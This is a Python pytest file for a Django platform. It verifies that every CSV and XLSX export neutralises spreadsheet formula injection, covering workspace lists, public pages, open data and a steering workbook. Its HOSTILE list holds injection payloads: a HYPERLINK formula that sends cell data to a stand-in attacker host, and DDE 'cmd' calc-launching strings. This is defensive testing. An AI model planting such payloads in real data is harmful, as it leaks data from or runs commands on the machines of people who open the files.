"""No spreadsheet the platform writes can carry a live formula, whoever wrote the text in it.

The whole-class test fills every text column of every model with text that a spreadsheet program would run,
then downloads every export it can find: each list of the workspace registry, every public page that answers
`?export=csv` or `?export=xlsx` (found from the URL map, so a new list is covered the day it is added), the
open data of every public indicator and the steering committee's workbook."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.apps import apps
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat, Left
from django.urls import URLPattern, URLResolver, get_resolver
from django.urls.resolvers import LocalePrefixPattern
from openpyxl import Workbook, load_workbook

from jazari.conftest import client_for
from jazari.core.exports import FORMULA_STARTS, csv_cell, csv_lines, xlsx_row
from jazari.core.seeding import Scale, run_seed
from jazari.indicators.periods import Quarter
from jazari.indicators.reference import load_indicators
from jazari.indicators.report import steering_xlsx
from jazari.indicators.services import observations_compute
from jazari.network.workspace import LISTS
from jazari.projects.models import Project

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.invalid/?x="&A1,"Voir")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
QUARTER = Quarter(2026, 3)


def unique_names(model: type[models.Model]) -> set[str]:
    names = {field.name for field in model._meta.concrete_fields if field.unique}
    for constraint in model._meta.constraints:
        names |= set(getattr(constraint, "fields", ()))
    for together in model._meta.unique_together:
        names |= set(together)
    return names


def make_every_text_hostile() -> int:
    """Prefix every text value of the platform's models with a formula; returns the number of columns."""
    columns = 0
    for config in apps.get_app_configs():
        if not config.name.startswith("jazari."):
            continue
        for model in config.get_models():
            fields = [
                field
                for field in model._meta.concrete_fields
                if isinstance(field, models.CharField | models.TextField)
                and not field.choices
                and not field.primary_key
                and field.name != "password"
                # codes and slugs address pages and are checked as such on input: never free text
                and not isinstance(field, models.SlugField)
                and field.name != "code"
                # a short key (region code, scope key) would collide with another once cut to its length
                and not (field.name in unique_names(model) and (field.max_length or 1000) < 60)
            ]
            for number, field in enumerate(fields):
                hostile = Concat(Value(HOSTILE[number % len(HOSTILE)]), F(field.name))
                value = Left(hostile, field.max_length) if field.max_length else hostile
                model._default_manager.update(**{field.name: value})
                columns += 1
    return columns


def public_list_paths() -> list[str]:
    """Every page of the URL map that takes no parameter, outside the admin, accounts and the API."""
    found = []

    def walk(patterns, prefix: str) -> None:
        for pattern in patterns:
            route = str(pattern.pattern)
            if "<" in route or route.startswith(("admin/", "accounts/", "api/", "^")):
                continue
            if isinstance(pattern, URLResolver):
                walk(pattern.url_patterns, prefix + route)
            elif isinstance(pattern, URLPattern):
                found.append("/" + (prefix + route).lstrip("/"))

    for pattern in get_resolver().url_patterns:
        if isinstance(pattern, URLResolver) and isinstance(pattern.pattern, LocalePrefixPattern):
            walk(pattern.url_patterns, "/fr/")
    return sorted(set(found))


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def xlsx_rows(content: bytes) -> list[list]:
    workbook = load_workbook(io.BytesIO(content))
    return [list(row) for sheet in workbook.worksheets for row in sheet.iter_rows()]


def dangerous(text: str) -> bool:
    return text.startswith(FORMULA_STARTS) and not re.fullmatch(r"[+-]?[\d.,]+", text)


def faults(name: str, content: bytes, kind: str) -> list[str]:
    """What is wrong in one file: formulas, and text starting like one without its neutraliser."""
    if kind == "csv":
        rows = csv_rows(content)
        cells = [cell for row in rows for cell in row]
        found = [f"{name}: {cell!r}" for cell in cells if dangerous(cell)]
        escaped = sum(cell.startswith("'") and dangerous(cell[1:]) for cell in cells)
    else:
        rows = xlsx_rows(content)
        cells = [cell for row in rows for cell in row]
        found = [f"{name}: formula {cell.value!r}" for cell in cells if cell.data_type == "f"]
        found += [
            f"{name}: {cell.value!r} without quote prefix"
            for cell in cells
            if isinstance(cell.value, str) and dangerous(cell.value) and not cell.quotePrefix
        ]
        escaped = sum(isinstance(cell.value, str) and dangerous(cell.value) for cell in cells)
    if len(rows) > 1 and not escaped:
        found.append(f"{name}: rows without any hostile text, so the file proves nothing")
    return found


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.fixture
def hostile_platform(coordinator):
    run_seed(scale_name="tiny", seed=5, out=lambda line: None, scales={"tiny": Scale("tiny", 40, 150)})
    load_indicators()
    observations_compute(quarter=QUARTER)
    Project.objects.filter(pk__in=Project.objects.order_by("pk")[:10].values("pk")).update(is_public=True)
    assert make_every_text_hostile() > 50


def test_it_neutralises_every_formula_start_and_keeps_numbers_numeric():
    formulas = [f"{start}1+1" for start in FORMULA_STARTS]
    assert [csv_cell(formula) for formula in formulas] == [f"'{formula}" for formula in formulas]
    assert [csv_cell(value) for value in ("-12.5", "+212", 7, -3, Decimal("-1.5"), "plain")] == [
        "-12.5",
        "+212",
        7,
        -3,
        Decimal("-1.5"),
        "plain",
    ]
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("t")
    xlsx_row(sheet, ["=1+1", "@x", 42, Decimal("2.5"), "-7"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = xlsx_rows(buffer.getvalue())[0]
    assert [(cell.value, cell.data_type, bool(cell.quotePrefix)) for cell in cells] == [
        ("=1+1", "s", True),
        ("@x", "s", True),
        (42, "n", False),
        (2.5, "n", False),
        ("-7", "s", False),
    ]
    assert "".join(csv_lines(["=title"], [["=1"]])) == "\ufeff'=title\r\n'=1\r\n"


def test_it_writes_no_formula_in_any_export_of_the_platform(hostile_platform, coordinator, client):
    staff = client_for(coordinator)
    downloads = {}
    for kind in LISTS:
        for file_format in ("csv", "xlsx"):
            url = f"/fr/workspace/{kind}/?export={file_format}"
            downloads[url] = staff.get(url)
    for path in public_list_paths():
        for file_format in ("csv", "xlsx"):
            response = client.get(f"{path}?export={file_format}")
            if response.status_code == 200 and "attachment" in response.get("Content-Disposition", ""):
                downloads[f"{path}?export={file_format}"] = response
    public_exports = [url for url in downloads if not url.startswith("/fr/workspace/")]
    assert len(public_exports) >= 8  # institutes, organisations, experts, projects... in both formats
    open_data = client.get("/fr/indicators/open-data/")
    for path in sorted(set(re.findall(r'href="(/fr/indicators/open-data/[\w-]+\.csv)"', open_data.text))):
        downloads[path] = client.get(path)
    assert any(url.startswith("/fr/indicators/open-data/") for url in downloads)

    problems = []
    for url, response in downloads.items():
        assert response.status_code == 200, url
        kind = "csv" if response["Content-Type"].startswith("text/csv") else "xlsx"
        problems += faults(url, body(response), kind)
    problems += faults("steering committee workbook", steering_xlsx(QUARTER, "fr"), "xlsx")
    assert problems == [], "\n".join(problems)


def test_it_keeps_numbers_numeric_in_an_xlsx_export(hostile_platform, client):
    rows = xlsx_rows(body(client.get("/fr/projects/?export=xlsx")))
    trl = [cell.value for cell in rows[0]].index("TRL")
    assert len(rows) > 1
    assert {(type(row[trl].value), row[trl].data_type) for row in rows[1:]} == {(int, "n")}
